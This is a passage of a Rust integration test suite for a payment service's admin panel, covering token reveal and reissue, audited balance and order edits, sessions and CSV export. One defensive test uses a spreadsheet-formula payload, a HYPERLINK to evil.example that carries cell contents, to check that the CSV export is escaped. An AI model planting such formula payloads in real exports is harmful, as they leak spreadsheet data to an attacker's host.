    assert!(!created.text.contains(&token.token_hash));

    let value = value_shown_once(&mut browser, &created, tid).await;
    assert_eq!(value.len(), 64);
    assert_eq!(sha256_hex(&value), token.token_hash);
    // Another browser of the same administrator never sees it.
    let mut other = panel.signed_in().await;
    assert!(!other.get(&page).await.text.contains(&value));

    // The value works with exactly its one permission.
    let balance = app.get_balance(Some(&value), &balance_query).await;
    assert_eq!(balance.status, 200, "{}", balance.text);
    assert_eq!(
        balance.body["main_balance"],
        json!("7.25"),
        "{}",
        balance.text
    );
    app.complete_order(&value, "Order:abcdefgh", "cstm:paygate")
        .await
        .assert_error(403, "ACCESS_DENIED");

    // The value is on no other page, in no export, in no stored row.
    let seeded = Seeded {
        token_id: tid,
        user_id: user,
        order_id: app.order(user, None, "1.00", "cstm:paygate").await,
    };
    for path in panel.pages(&seeded) {
        let answer = browser.get(&path).await;
        assert_eq!(answer.status, 200, "{path}");
        assert!(!answer.text.contains(&value), "{path} shows the value");
    }
    let stored = format!(
        "{}{}",
        panel.panel_tables_text().await,
        panel.snapshot().await
    );
    assert!(!stored.contains(&value), "the value is stored");
    let audit = panel.audit_of("token.create", &tid.to_string()).await;
    panel.check_row(
        &audit,
        None,
        Some(json!({
            "project_id": pid,
            "name": "Shop",
            "permissions": ["master-account/balance"],
            "active": true,
            "description": "the shop's game panel",
            "last4": value[60..],
            "expires_at": null,
            "previous_last4": null,
            "previous_until": null,
        })),
    );

    // Reissue: a new value, shown once; the old one stops working at once.
    let reissued = browser
        .submit(&page, &format!("{page}/reissue"), &[("grace_hours", "0")])
        .await;
    let new_value = value_shown_once(&mut browser, &reissued, tid).await;
    assert_ne!(new_value, value);
    assert_eq!(
        sha256_hex(&new_value),
        panel.token_row(tid).await.unwrap().token_hash
    );
    app.get_balance(Some(&value), &balance_query)
        .await
        .assert_error(403, "TOKEN_NOT_FOUND");
    assert_eq!(
        app.get_balance(Some(&new_value), &balance_query)
            .await
            .status,
        200
    );
    for path in panel.pages(&seeded) {
        let answer = browser.get(&path).await;
        assert!(
            !answer.text.contains(&new_value),
            "{path} shows the new value"
        );
        assert!(!answer.text.contains(&value), "{path} shows the old value");
    }
    let stored = format!(
        "{}{}",
        panel.panel_tables_text().await,
        panel.snapshot().await
    );
    assert!(!stored.contains(&new_value), "the new value is stored");
    // The same token, but for the last 4 characters of its value.
    let with_value = |value: &str| {
        json!({
            "project_id": pid,
            "name": "Shop",
            "permissions": ["master-account/balance"],
            "active": true,
            "description": "the shop's game panel",
            "last4": value[60..],
            "expires_at": null,
            "previous_last4": null,
            "previous_until": null,
        })
    };
    panel.check_row(
        &panel.audit_of("token.reissue", &tid.to_string()).await,
        Some(with_value(&value)),
        Some(with_value(&new_value)),
    );
}

async fn the_value_is_only_in_the_answer_to_its_creation_or_reissue(panel: Panel) {
    let pid = panel.app.project_id;
    let mut browser = panel.signed_in().await;
    let created = browser
        .submit(
            &format!("/projects/{pid}/tokens/new"),
            &format!("/projects/{pid}/tokens"),
            &[("name", "Reveal"), ("permission", "master-account/balance")],
        )
        .await;
    assert!(created.header("location").is_none());
    let tid = panel.token_row_named("Reveal").await.id;
    let value = value_shown_once(&mut browser, &created, tid).await;
    // Another session never sees it either.
    let mut other = panel.signed_in().await;
    let page = format!("/tokens/{tid}");
    assert!(!other.get(&page).await.text.contains(&value));
    // A reissue from another browser: shown in that answer only.
    let reissued = other
        .submit(&page, &format!("{page}/reissue"), &[("grace_hours", "0")])
        .await;
    let new_value = value_shown_once(&mut other, &reissued, tid).await;
    assert_ne!(new_value, value);
    assert!(!browser.get(&page).await.text.contains(&new_value));
}

async fn token_changes_hold_from_the_next_api_request(panel: Panel) {
    let app = &panel.app;
    let pid = app.project_id;
    let user = app.user("player@example.com").await;
    let query = format!("server_id=0&user_id={user}");
    let mut browser = panel.signed_in().await;
    let created = browser
        .submit(
            &format!("/projects/{pid}/tokens/new"),
            &format!("/projects/{pid}/tokens"),
            &[("name", "Shop"), ("permission", "master-account/balance")],
        )
        .await;
    let tid = entity::app_token::Entity::find()
        .filter(entity::app_token::Column::Name.eq("Shop"))
        .one(&app.db)
        .await
        .unwrap()
        .unwrap()
        .id;
    let page = format!("/tokens/{tid}");
    let value = value_shown_once(&mut browser, &created, tid).await;
    let object = tid.to_string();
    let state = |name: &str, permissions: &[&str], active: bool| {
        json!({
            "project_id": pid, "name": name, "permissions": permissions, "active": active,
            "description": null, "last4": value[60..], "expires_at": null,
            "previous_last4": null, "previous_until": null,
        })
    };

    // Edit: a second permission, a new name.
    browser
        .submit(
            &page,
            &format!("{page}/edit"),
            &[
                ("name", "Shop v2"),
                ("permission", "master-account/balance"),
                ("permission", "payment/order/complete"),
            ],
        )
        .await
        .assert_redirect(&page);
    app.complete_order(&value, "Order:abcdefgh", "cstm:paygate")
        .await
        .assert_error(404, "ORDER_NOT_FOUND");
    panel.check_row(
        &panel.audit_of("token.edit", &object).await,
        Some(state("Shop", &["master-account/balance"], true)),
        Some(state(
            "Shop v2",
            &["master-account/balance", "payment/order/complete"],
            true,
        )),
    );
    let both = ["master-account/balance", "payment/order/complete"];
    let listed = browser.get(&format!("/projects/{pid}/tokens")).await;
    assert!(listed.text.contains("Shop v2") && listed.text.contains("payment/order/complete"));

    // Disable, enable.
    browser
        .submit(&page, &format!("{page}/active"), &[("active", "false")])
        .await
        .assert_redirect(&page);
    app.get_balance(Some(&value), &query)
        .await
        .assert_error(403, "TOKEN_DISABLED");
    panel.check_row(
        &panel.audit_of("token.disable", &object).await,
        Some(state("Shop v2", &both, true)),
        Some(state("Shop v2", &both, false)),
    );
    browser
        .submit(&page, &format!("{page}/active"), &[("active", "true")])
        .await
        .assert_redirect(&page);
    assert_eq!(app.get_balance(Some(&value), &query).await.status, 200);
    panel.check_row(
        &panel.audit_of("token.enable", &object).await,
        Some(state("Shop v2", &both, false)),
        Some(state("Shop v2", &both, true)),
    );

    // Delete: refused unless the name is typed exactly.
    let before = panel.snapshot().await;
    for typed in ["", "Shop", "shop v2", "Shop v2x"] {
        let answer = browser
            .submit(&page, &format!("{page}/delete"), &[("confirm_name", typed)])
            .await;
        answer.assert_status(422);
        assert!(
            answer.field_error("confirm_name").is_some(),
            "{typed:?}: {}",
            answer.text
        );
    }
    assert_eq!(
        panel.snapshot().await,
        before,
        "a refused delete changed something"
    );
    assert_eq!(app.get_balance(Some(&value), &query).await.status, 200);
    browser
        .submit(
            &page,
            &format!("{page}/delete"),
            &[("confirm_name", "Shop v2")],
        )
        .await
        .assert_redirect(&format!("/projects/{pid}/tokens"));
    assert!(panel.token_row(tid).await.is_none());
    app.get_balance(Some(&value), &query)
        .await
        .assert_error(403, "TOKEN_NOT_FOUND");
    panel.check_row(
        &panel.audit_of("token.delete", &object).await,
        Some(state("Shop v2", &both, true)),
        None,
    );
    browser.get(&page).await.assert_status(404);
    let listed = browser.get(&format!("/projects/{pid}/tokens")).await;
    assert!(!listed.text.contains("Shop v2"));
}

async fn a_token_without_a_permission_or_name_is_refused_next_to_its_field(panel: Panel) {
    let pid = panel.app.project_id;
    let mut browser = panel.signed_in().await;
    let before = panel.snapshot().await;
    let form = format!("/projects/{pid}/tokens/new");
    let action = format!("/projects/{pid}/tokens");
    let answer = browser
        .submit(&form, &action, &[("name", "No access")])
        .await;
    answer.assert_status(422);
    assert!(
        answer.field_error("permissions").is_some(),
        "{}",
        answer.text
    );
    assert!(
        answer.text.contains("No access"),
        "the form keeps what was typed"
    );
    let answer = browser
        .submit(
            &form,
            &action,
            &[("name", ""), ("permission", "master-account/balance")],
        )
        .await;
    answer.assert_status(422);
    assert!(answer.field_error("name").is_some(), "{}", answer.text);
    let answer = browser
        .submit(
            &form,
            &action,
            &[("name", "x"), ("permission", "everything")],
        )
        .await;
    answer.assert_status(422);
    assert!(
        answer.field_error("permissions").is_some(),
        "{}",
        answer.text
    );
    assert_eq!(panel.snapshot().await, before);
    // Nothing is revealed by a refused form.
    assert!(shown_value(&answer).is_none());
    assert!(answer.set_cookie("masterpay_reveal").is_none());
}

// ---- users, balances, orders ----

async fn bad_balance_and_order_forms_are_refused_next_to_their_fields(panel: Panel) {
    let app = &panel.app;
    let pid = app.project_id;
    let user = app.user("player@example.com").await;
    app.set_balance(user, None, "3.00", "1.00").await;
    let mut browser = panel.signed_in().await;
    let before = panel.snapshot().await;
    let page = format!("/users/{user}");
    let action = format!("{page}/balance");
    for (fields, field) in [
        (
            vec![("server", "0"), ("main", "1.234"), ("reason", "refund")],
            "main",
        ),
        (
            vec![("server", "0"), ("main", "-1"), ("reason", "refund")],
            "main",
        ),
        (
            vec![("server", "0"), ("bonus", "abc"), ("reason", "refund")],
            "bonus",
        ),
        (
            vec![("server", "0"), ("main", "10.00"), ("reason", "")],
            "reason",
        ),
        (
            vec![("server", "0"), ("main", "10.00"), ("reason", "   ")],
            "reason",
        ),
        (vec![("server", "0"), ("main", "10.00")], "reason"),
        (vec![("server", "0"), ("reason", "refund")], "main"),
        (
            vec![
                ("server", "999999"),
                ("main", "10.00"),
                ("reason", "refund"),
            ],
            "server",
        ),
    ] {
        let answer = browser.submit(&page, &action, &fields).await;
        answer.assert_status(422);
        assert!(
            answer.field_error(field).is_some(),
            "{fields:?}: no error next to {field}: {}",
            answer.text
        );
    }
    let answer = browser
        .submit(
            &format!("/projects/{pid}/users"),
            &format!("/projects/{pid}/users"),
            &[("email", "not an e-mail")],
        )
        .await;
    answer.assert_status(422);
    assert!(answer.field_error("email").is_some(), "{}", answer.text);
    let answer = browser
        .submit(
            &format!("/projects/{pid}/users"),
            &format!("/projects/{pid}/servers"),
            &[("server_name", "")],
        )
        .await;
    answer.assert_status(422);
    assert!(
        answer.field_error("server_name").is_some(),
        "{}",
        answer.text
    );
    let user_text = user.to_string();
    let pid_text = pid.to_string();
    for (amount, field) in [
        ("1.234", "amount"),
        ("", "amount"),
        ("0", "amount"),
        ("ten", "amount"),
    ] {
        let answer = browser
            .submit(
                "/orders",
                "/orders",
                &[
                    ("project", &pid_text),
                    ("user", &user_text),
                    ("server", "0"),
                    ("amount", amount),
                    ("payment_system", "cstm:panel"),
                ],
            )
            .await;
        answer.assert_status(422);
        assert!(
            answer.field_error(field).is_some(),
            "{amount:?}: {}",
            answer.text
        );
    }
    assert_eq!(
        panel.snapshot().await,
        before,
        "a refused form changed something"
    );
    assert_eq!(app.main_balance(user, 0).await.to_string(), "3.00");
}

async fn setting_a_balance_is_exact_and_logged_with_its_reason(panel: Panel) {
    let app = &panel.app;
    let user = app.user("player@example.com").await;
    let server = app.server("Europe").await;
    app.set_balance(user, None, "3.00", "1.00").await;
    let mut browser = panel.signed_in().await;
    let page = format!("/users/{user}");
    let reason = "refund of ticket 4521, approved by support";
    browser
        .submit(
            &page,
            &format!("{page}/balance"),
            &[
                ("server", "0"),
                ("main", "12345678901.99"),
                ("reason", reason),
            ],
        )
        .await
        .assert_redirect(&page);
    let balances = masterpay::service::balances::get(&app.db, user, 0)
        .await
        .unwrap();
    assert_eq!(balances.main.to_string(), "12345678901.99");
    assert_eq!(
        balances.bonus.to_string(),
        "1.00",
        "a blank balance is kept"
    );
    let shown = browser.get(&page).await;
    assert!(shown.text.contains("12345678901.99"), "{}", shown.text);
    panel.check_row(
        &panel.audit_of("balance.set", &format!("{user}:0")).await,
        Some(json!({"main": "3.00", "bonus": "1.00"})),
        Some(json!({"main": "12345678901.99", "bonus": "1.00", "reason": reason})),
    );
    // A server's account, the bonus only.
    let server_text = server.to_string();
    browser
        .submit(
            &page,
            &format!("{page}/balance"),
            &[
                ("server", &server_text),
                ("bonus", "0.01"),
                ("reason", "goodwill"),
            ],
        )
        .await
        .assert_redirect(&page);
    let on_server = masterpay::service::balances::get(&app.db, user, server)
        .await
        .unwrap();
    assert_eq!(
        (on_server.main.to_string(), on_server.bonus.to_string()),
        ("0.00".to_owned(), "0.01".to_owned())
    );
    panel.check_row(
        &panel
            .audit_of("balance.set", &format!("{user}:{server}"))
            .await,
        Some(json!({"main": "0.00", "bonus": "0.00"})),
        Some(json!({"main": "0.00", "bonus": "0.01", "reason": "goodwill"})),
    );
    // The ledger holds the changes.
    assert_eq!(
        app.count(&format!(
            "SELECT COUNT(*) FROM operation_log WHERE user_id = {user} AND kind = 'balance_set'"
        ))
        .await,
        // main and bonus set by the test, main by the panel, bonus by the panel
        4
    );
    // The CSV export has both rows, with the reasons.
    let csv = browser.get("/audit-log.csv").await;
    csv.assert_status(200);
    assert!(csv.header("content-type").unwrap().starts_with("text/csv"));
    assert!(
        csv.text
            .starts_with("id,at,actor,address,action,object_kind,object_id,before,after"),
        "{}",
        csv.text
    );
    let lines: Vec<&str> = csv
        .text
        .lines()
        .filter(|l| l.contains("balance.set") && l.contains(ADMIN))
        .collect();
    assert_eq!(lines.len(), 2, "{}", csv.text);
    assert!(csv.text.contains(reason) && csv.text.contains("goodwill"));
    assert!(lines.iter().all(|l| l.contains("127.0.0.1")));
}

async fn cancelling_a_pending_order_from_the_panel(panel: Panel) {
    let app = &panel.app;
    let pid = app.project_id;
    let user = app.user("player@example.com").await;
    let mut browser = panel.signed_in().await;
    // An order created in the panel...
    let user_text = user.to_string();
    let pid_text = pid.to_string();
    let created = browser
        .submit(
            "/orders",
            "/orders",
            &[
                ("project", &pid_text),
                ("user", &user_text),
                ("server", "0"),
                ("amount", "25.50"),
                ("payment_system", "cstm:panel"),
            ],
        )
        .await;
    assert_eq!(created.status, 303, "{}", created.text);
    let order = entity::payment_order::Entity::find()
        .one(&app.db)
        .await
        .unwrap()
        .expect("the order");
    let page = format!("/orders/{pid}/{}", order.order_id);
    created.assert_redirect(&page);
    let rows = panel.audit_of("order.create", &order.order_id).await;
    assert_eq!(rows.len(), 1);
    assert_eq!(
        (rows[0].actor.as_str(), rows[0].address.as_deref()),
        (ADMIN, Some("127.0.0.1"))
    );
    let after: Value = serde_json::from_str(rows[0].after.as_deref().unwrap()).unwrap();
    assert_eq!(
        (after["amount"].clone(), after["status"].clone()),
        (json!("25.50"), json!("pending"))
    );
    // ...found by its id, and cancelled.
    let found = browser
        .get(&format!("/orders?order_id={}", order.order_id))
        .await;
    found.assert_status(200);
    assert!(found.text.contains(&order.order_id));
    browser
        .submit(&page, &format!("{page}/cancel"), &[])
        .await
        .assert_redirect(&page);
    let token = app.full_token().await;
    let read = app
        .read_order(Some(&token), &format!("order_id={}", order.order_id))
        .await;
    assert_eq!(read.body["status"], json!("cancelled"), "{}", read.text);
    let rows = panel.audit_of("order.cancel", &order.order_id).await;
    assert_eq!(rows.len(), 1, "{rows:?}");
    assert_eq!(rows[0].administrator_id, Some(panel.admin_id));
    assert_eq!(rows[0].address.as_deref(), Some("127.0.0.1"));
    let before: Value = serde_json::from_str(rows[0].before.as_deref().unwrap()).unwrap();
    let after: Value = serde_json::from_str(rows[0].after.as_deref().unwrap()).unwrap();
    assert_eq!(
        (before["status"].clone(), after["status"].clone()),
        (json!("pending"), json!("cancelled"))
    );
    // A cancelled order stays cancelled and cannot be completed.
    let snapshot = panel.snapshot().await;
    let csrf = browser.csrf().await;
    let again = browser
        .post(&format!("{page}/cancel"), &[("csrf", &csrf)])
        .await;
    again.assert_status(409);
    assert!(again.text.contains("already cancelled"), "{}", again.text);
    assert_eq!(panel.snapshot().await, snapshot);
    app.complete_order(&token, &order.order_id, "cstm:panel")
        .await
        .assert_error(409, "ORDER_CANCELLED");
    // The audit log page and its export show both actions.
    let log = browser.get("/audit-log").await;
    assert!(log.text.contains("order.create") && log.text.contains("order.cancel"));
    let csv = browser
        .get(&format!("/audit-log.csv?object_id={}", order.order_id))
        .await;
    csv.assert_status(200);
    assert_eq!(
        csv.text.lines().count(),
        3,
        "a header and two rows: {}",
        csv.text
    );
    assert!(csv.text.contains("order.create") && csv.text.contains("order.cancel"));
}

/// An order whose completion was refused at the balance ceiling: its page
/// says so, the panel's completion is refused the same way while the
/// balance is full (nothing changed), and completes it once it allows,
/// audited and credited once.
async fn a_refused_completion_is_shown_and_completed_from_the_panel(panel: Panel) {
    let app = &panel.app;
    let pid = app.project_id;
    let token = app.full_token().await;
    let user = app.user("whale@example.com").await;
    app.set_balance(user, None, "999999999999999.99", "0").await;
    let order = app.order(user, None, "3.00", "cstm:paygate").await;
    app.complete_order(&token, &order, "cstm:paygate")
        .await
        .assert_error(422, "PAYMENT_PROCESSING_ERROR");
    let mut browser = panel.signed_in().await;
    let page = format!("/orders/{pid}/{order}");
    let shown = browser.get(&page).await;
    shown.assert_status(200);
    assert!(shown.text.contains("Completion refused"), "{}", shown.text);
    assert!(shown.text.contains("999999999999999.99"), "{}", shown.text);

    let csrf = browser.csrf().await;
    let refused = browser
        .post(&format!("{page}/complete"), &[("csrf", &csrf)])
        .await;
    refused.assert_status(409);
    assert!(refused.text.contains("Not completed"), "{}", refused.text);
    // Nothing changed but the refusal's time, recorded again.
    assert_eq!(
        app.main_balance(user, 0).await.to_string(),
        "999999999999999.99"
    );
    let read = app
        .read_order(Some(&token), &format!("order_id={order}"))
        .await;
    assert_eq!(read.body["status"], json!("pending"), "{}", read.text);
    assert!(panel.audit_of("order.complete", &order).await.is_empty());

    app.set_balance(user, None, "10.00", "0").await;
    browser
        .submit(&page, &format!("{page}/complete"), &[])
        .await
        .assert_redirect(&page);
    assert_eq!(app.main_balance(user, 0).await.to_string(), "13.00");
    let rows = panel.audit_of("order.complete", &order).await;
    assert_eq!(rows.len(), 1, "{rows:?}");
    assert_eq!(rows[0].administrator_id, Some(panel.admin_id));
    let before: Value = serde_json::from_str(rows[0].before.as_deref().unwrap()).unwrap();
    let after: Value = serde_json::from_str(rows[0].after.as_deref().unwrap()).unwrap();
    assert_eq!(
        (before["status"].clone(), after["status"].clone()),
        (json!("pending"), json!("completed"))
    );
    let csrf = browser.csrf().await;
    let again = browser
        .post(&format!("{page}/complete"), &[("csrf", &csrf)])
        .await;
    again.assert_status(409);
    assert!(again.text.contains("already completed"), "{}", again.text);
    app.complete_order(&token, &order, "cstm:paygate")
        .await
        .assert_error(409, "ORDER_ALREADY_COMPLETED");
    assert_eq!(app.main_balance(user, 0).await.to_string(), "13.00");
}

async fn users_and_servers_created_in_the_panel_are_audited(panel: Panel) {
    let pid = panel.app.project_id;
    let mut browser = panel.signed_in().await;
    let users_page = format!("/projects/{pid}/users");
    let created = browser
        .submit(
            &users_page,
            &users_page,
            &[("email", "new.player@example.com")],
        )
        .await;
    assert_eq!(created.status, 303, "{}", created.text);
    let user = entity::user::Entity::find()
        .filter(entity::user::Column::Email.eq("new.player@example.com"))
        .one(&panel.app.db)
        .await
        .unwrap()
        .expect("the user");
    created.assert_redirect(&format!("/users/{}", user.id));
    panel.check_row(
        &panel.audit_of("user.create", &user.id.to_string()).await,
        None,
        Some(json!({"project_id": pid, "email": "new.player@example.com"})),
    );
    browser
        .submit(
            &users_page,
            &format!("/projects/{pid}/servers"),
            &[("server_name", "Asia")],
        )
        .await
        .assert_redirect(&users_page);
    let server = entity::server::Entity::find()
        .one(&panel.app.db)
        .await
        .unwrap()
        .expect("the server");
    panel.check_row(
        &panel
            .audit_of("server.create", &server.id.to_string())
            .await,
        None,
        Some(json!({"project_id": pid, "name": "Asia"})),
    );
    // Found by id and by e-mail.
    for q in [user.id.to_string(), "new.player@example.com".to_owned()] {
        let found = browser.get(&format!("{users_page}?q={q}")).await;
        assert!(found.text.contains("new.player@example.com"), "{q}");
    }
    // Running the ledger audit is recorded too.
    let ran = browser.submit("/ledger/audit", "/ledger/audit", &[]).await;
    ran.assert_redirect("/ledger/audit");
    let rows = panel.audit_of("audit.run", "ledger").await;
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0].administrator_id, Some(panel.admin_id));
}

// ---- one's own account ----

async fn changing_ones_password_ends_the_other_sessions(panel: Panel) {
    let mut browser = panel.signed_in().await;
    let mut elsewhere = panel.signed_in().await;
    let account = browser.get("/account").await;
    account.assert_status(200);
    assert!(account.text.contains(ADMIN));
    // Refused, next to the field, changing nothing.
    let before = panel.snapshot().await;
    let new_password = "  a brand new passphrase ";
    let current = ("current_password", PASSWORD);
    for (fields, field) in [
        (
            vec![current, ("password", "short"), ("password_again", "short")],
            "password",
        ),
        (
            vec![
                current,
                ("password", new_password),
                ("password_again", "a brand new passphrase"),
            ],
            "password_again",
        ),
        (
            vec![current, ("password", ""), ("password_again", "")],
            "password",
        ),
        // The current password is asked for, and checked.
        (
            vec![("password", new_password), ("password_again", new_password)],
            "current_password",
        ),
        (
            vec![
                ("current_password", "wrong password!"),
                ("password", new_password),
                ("password_again", new_password),
            ],
            "current_password",
        ),
    ] {
        let answer = browser
            .submit("/account", "/account/password", &fields)
            .await;
        answer.assert_status(422);
        assert!(
            answer.field_error(field).is_some(),
            "{fields:?}: {}",
            answer.text
        );
        assert!(
            !answer.text.contains("brand new"),
            "a password is echoed back"
        );
    }
    assert_eq!(panel.snapshot().await, before);
    elsewhere.get("/").await.assert_status(200);

    let changed = browser
        .submit(
            "/account",
            "/account/password",
            &[
                current,
                ("password", new_password),
                ("password_again", new_password),
            ],
        )
        .await;
    assert_eq!(changed.status, 303, "{}", changed.text);
    // This browser stays signed in; the other one is signed out.
    browser.get("/").await.assert_status(200);
    elsewhere.get("/").await.assert_sign_in_required();
    assert_eq!(panel.sessions().await, 1);
    // The old password no longer signs in; the new one, as typed, does.
    let mut fresh = panel.browser();
    fresh.sign_in(ADMIN, PASSWORD).await.assert_status(401);
    fresh
        .sign_in(ADMIN, new_password.trim())
        .await
        .assert_status(401);
    fresh
        .sign_in(ADMIN, new_password)
        .await
        .assert_redirect("/");
    let stored = panel.panel_tables_text().await;
    assert!(
        !stored.contains("brand new"),
        "the password is stored in clear"
    );
    panel.check_row(
        &panel
            .audit_of("administrator.password", &panel.admin_id.to_string())
            .await,
        None,
        Some(json!({"name": ADMIN, "other_sessions_ended": 1})),
    );
}

async fn the_csv_export_neutralizes_what_a_spreadsheet_would_run(panel: Panel) {
    // Administrator names are free text: this one is a formula.
    let name = r#"=HYPERLINK("http://evil.example/?"&A1,"open")"#;
    panel.administrator(name).await;
    let mut browser = panel.browser();
    browser.sign_in(name, PASSWORD).await.assert_redirect("/");
    for project in ["+1+1", "@SUM(A1)"] {
        let page = browser
            .submit("/projects", "/projects", &[("name", project)])
            .await;
        assert_eq!(page.status, 303, "{}", page.text);
    }
    let csv = browser.get("/audit-log.csv").await;
    csv.assert_status(200);
    let mut reader = csv::ReaderBuilder::new().from_reader(csv.text.as_bytes());
    let mut actors = 0;
    for record in reader.records() {
        let record = record.expect("a CSV row");
        for cell in &record {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:?} in {record:?}"
            );
        }
        if record[2] == format!("'{name}") {
            actors += 1;
        }
    }
    assert_eq!(actors, 2, "the name, quoted, on both rows: {}", csv.text);
}

async fn an_active_switch_other_than_true_or_false_is_refused(panel: Panel) {
    let project = panel.app.project_id;
    let (token, _) = panel.app.token(&[Permission::Balance]).await;
    let mut browser = panel.signed_in().await;
    let rows = panel.audit_rows().await.len();
    for path in [
        format!("/tokens/{token}/active"),
        format!("/projects/{project}/active"),
    ] {
        for value in ["maybe", "", "TRUE", "0"] {
            let page = browser
                .submit(&format!("/tokens/{token}"), &path, &[("active", value)])
                .await;
            page.assert_status(400);
            assert!(page.text.contains("must be true or false"), "{}", page.text);
            assert!(page.text.contains("Nothing was changed"), "{}", page.text);
        }
    }
    let stored = entity::app_token::Entity::find_by_id(token)
        .one(&panel.app.db)
        .await
        .unwrap()
        .unwrap();
    assert!(stored.active, "the token is still active");
    assert!(panel.projects().await.iter().all(|p| p.active));
    assert_eq!(panel.audit_rows().await.len(), rows, "no audit row");
}

async fn a_path_id_that_is_not_a_number_gets_the_panels_not_found_page(panel: Panel) {
    let mut browser = panel.signed_in().await;
    let csrf = browser.csrf().await;
    let unknown = browser.get("/no-such-page").await;
    unknown.assert_status(404);
    for path in [
        "/tokens/abc",
        "/projects/abc",
        "/projects/abc/tokens",
        "/projects/1x/tokens/new",
        "/users/abc",
        "/orders/abc/Order:Ab12Cd34",
        "/tokens/99999999999999999999",
    ] {
        let page = browser.get(path).await;
        page.assert_status(404);
        assert_eq!(page.header("content-type"), unknown.header("content-type"));
        assert!(
            page.text.contains("does not exist"),
            "{path}: {}",
            page.text
        );
    }
    for path in [
        "/tokens/abc/active",
        "/projects/abc/rename",
        "/users/x/balance",
    ] {
        let page = browser
            .post(path, &[("csrf", &csrf), ("active", "false"), ("name", "x")])
            .await;
        page.assert_status(404);
        assert!(
            page.text.starts_with("<!DOCTYPE html>"),
            "{path}: {}",
            page.text
        );
    }
}

async fn counts_of_one_are_singular(panel: Panel) {
    let app = &panel.app;
    let token = app.full_token().await;
    let user = app.user("one@example.com").await;
    let order = app.order(user, None, "3.00", "cstm:paygate").await;
    app.complete_order(&token, &order, "cstm:paygate").await;
    let mut browser = panel.signed_in().await;
    browser
        .submit("/ledger/audit", "/ledger/audit", &[])
        .await
        .assert_redirect("/ledger/audit");
    let audit = browser.get("/ledger/audit").await;
    assert!(audit.text.contains("1 completed order,"), "{}", audit.text);
    assert!(!audit.text.contains("1 completed orders"), "{}", audit.text);
    let log = browser.get("/audit-log?action=audit.run").await;
    assert!(log.text.contains("1 entry."), "{}", log.text);
    let ledger = browser.get(&format!("/ledger?user={user}")).await;
    assert!(ledger.text.contains("1 entry."), "{}", ledger.text);
}

async fn an_administrator_cannot_disable_themselves_or_the_last_active_one(panel: Panel) {
    let db = &panel.app.db;
    let mut browser = panel.signed_in().await;
    let colleague = panel.administrator("colleague").await;
    let rows = panel.audit_rows().await.len();
    let me = Actor::Administrator {
        id: panel.admin_id,
        name: ADMIN.to_owned(),
        address: Some("127.0.0.1".to_owned()),
    };
    let refused = |result: Result<_, masterpay::service::AdminError>, why: &str| {
        let err = result.expect_err(why);
        assert!(err.to_string().contains(why), "{err}");
    };
    refused(
        admins::set_active(db, &me, ADMIN, false).await,
        "cannot disable yourself",
    );
    // Nothing changed: still active, still signed in, no audit row.
    browser.get("/").await.assert_status(200);
    assert_eq!(panel.audit_rows().await.len(), rows);
    // The colleague may be disabled by the operator; then the operator is
    // the last active administrator, whom nobody may disable.
    admins::set_active(db, &me, "colleague", false)
        .await
        .expect("another administrator");
    let rows = panel.audit_rows().await.len();
    refused(
        admins::set_active(db, &Actor::CommandLine, ADMIN, false).await,
        "last active administrator",
    );
    browser.get("/").await.assert_status(200);
    assert_eq!(panel.audit_rows().await.len(), rows);
    let stored = administrator::Entity::find_by_id(colleague)
        .one(db)
        .await
        .unwrap()
        .unwrap();
    assert!(!stored.active);
}

async fn a_reissued_token_was_never_used(panel: Panel) {
    let (tid, _) = panel.app.token(&[Permission::Balance]).await;
    // The old value's use, as the API records it.
    entity::app_token::Entity::update_many()
        .col_expr(
            entity::app_token::Column::LastUsedAt,
            Expr::value(Utc::now() - Duration::minutes(3)),
        )
        .filter(entity::app_token::Column::Id.eq(tid))
        .exec(&panel.app.db)
        .await
        .unwrap();
    let used = || async {
        entity::app_token::Entity::find_by_id(tid)
            .one(&panel.app.db)
            .await
            .unwrap()
            .unwrap()
            .last_used_at
    };
    assert!(used().await.is_some(), "the old value was used");
    let mut browser = panel.signed_in().await;
    let page = format!("/tokens/{tid}");
    let answer = browser
        .submit(&page, &format!("{page}/reissue"), &[("grace_hours", "0")])
        .await;
    assert!(answer.status < 400, "{}", answer.text);
    assert_eq!(used().await, None, "the new value was never used");
    let shown = browser.get(&page).await;
    let last_used = Regex::new(r"Last used</th><td>(.*?)</td>").unwrap();
    assert!(
        last_used.captures(&shown.text).unwrap()[1].contains("never"),
        "{}",
        shown.text
    );
}

/// The status and code of a balance request made with `token`.
async fn api_answer(panel: &Panel, token: &str) -> (u16, String) {
    let reply = panel.app.get_balance(Some(token), "server_id=-1").await;
    (reply.status, reply.code().to_owned())
}

async fn tokens_show_the_last_4_characters_of_each_value(panel: Panel) {
    let (tid, value) = panel.app.token(&[Permission::Balance]).await;
    let mut browser = panel.signed_in().await;
    let end = format!("…{}", &value[60..]);
    let project = panel.app.project_id;
    for page in [
        format!("/projects/{project}/tokens"),
        format!("/tokens/{tid}"),
    ] {
        let shown = browser.get(&page).await;
        shown.assert_status(200);
        assert!(shown.text.contains(&end), "{page}: {}", shown.text);
        assert!(
            !shown.text.contains(&value[..8]),
            "{page} shows more of the value"
        );
    }
}

async fn a_reissue_with_grace_keeps_the_old_value_until_the_grace_is_ended(panel: Panel) {
    // A token without the balance permission: a value that passes
    // authentication is answered ACCESS_DENIED by the balance endpoint.
    let (tid, old) = panel.app.token(&[Permission::Complete]).await;
    let mut browser = panel.signed_in().await;
    let page = format!("/tokens/{tid}");
    let refused = browser
        .submit(&page, &format!("{page}/reissue"), &[("grace_hours", "5")])
        .await;
    refused.assert_status(400);
    assert_eq!(
        api_answer(&panel, &old).await.1,
        "ACCESS_DENIED",
        "nothing changed"
    );
    let shown = browser
        .submit(&page, &format!("{page}/reissue"), &[("grace_hours", "24")])
        .await;
    let new = value_shown_once(&mut browser, &shown, tid).await;
    // Both values pass authentication.
    assert_eq!(api_answer(&panel, &old).await.1, "ACCESS_DENIED");
    assert_eq!(api_answer(&panel, &new).await.1, "ACCESS_DENIED");
    let token_page = browser.get(&page).await;
    assert!(
        token_page.text.contains("Old value in its grace period"),
        "{}",
        token_page.text
    );
    assert!(token_page.text.contains(&format!("…{}", &old[60..])));
    assert!(token_page.text.contains(&format!("…{}", &new[60..])));
    let ended = browser
        .submit(&page, &format!("{page}/end-grace"), &[])
        .await;
    assert!(ended.status < 400, "{}", ended.text);
    assert_eq!(
        api_answer(&panel, &old).await,
        (403, "TOKEN_NOT_FOUND".to_owned())
    );
    assert_eq!(api_answer(&panel, &new).await.1, "ACCESS_DENIED");
